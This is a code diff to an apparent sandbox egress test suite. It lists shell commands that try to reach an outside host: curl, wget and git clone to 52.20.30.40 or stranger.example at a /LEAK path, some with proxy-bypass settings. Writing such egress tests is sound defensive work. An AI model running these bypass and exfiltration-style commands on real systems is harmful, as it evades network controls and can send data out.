@@ -37,8 +37,11 @@ const TOOLS: Attempt[] = [
     'ALL_PROXY=http://52.20.30.40:3128 curl -sS -m 3 http://stranger.example/LEAK',
   ),
   straight('curl over HTTP/3 and QUIC ports', 'attack udp 52.20.30.40 443'),
-  straight('wget without the proxy', 'wget -T 3 -O- http://52.20.30.40/LEAK'),
-  straight('wget with --no-proxy semantics', 'wget -T 3 -Y off -O- http://stranger.example/LEAK'),
+  straight('wget without the proxy', 'timeout 4 wget -O- http://52.20.30.40/LEAK'),
+  straight(
+    'wget told to use no proxy',
+    'http_proxy=http://127.0.0.2:8080 timeout 4 wget -Y off -O- http://52.20.30.40/LEAK',
+  ),
   straight('git clone over https', 'timeout 5 git clone https://52.20.30.40/LEAK.git /tmp/a'),
   straight('git clone over the git protocol', 'timeout 5 git clone git://52.20.30.40/LEAK.git /tmp/b'),
   straight(
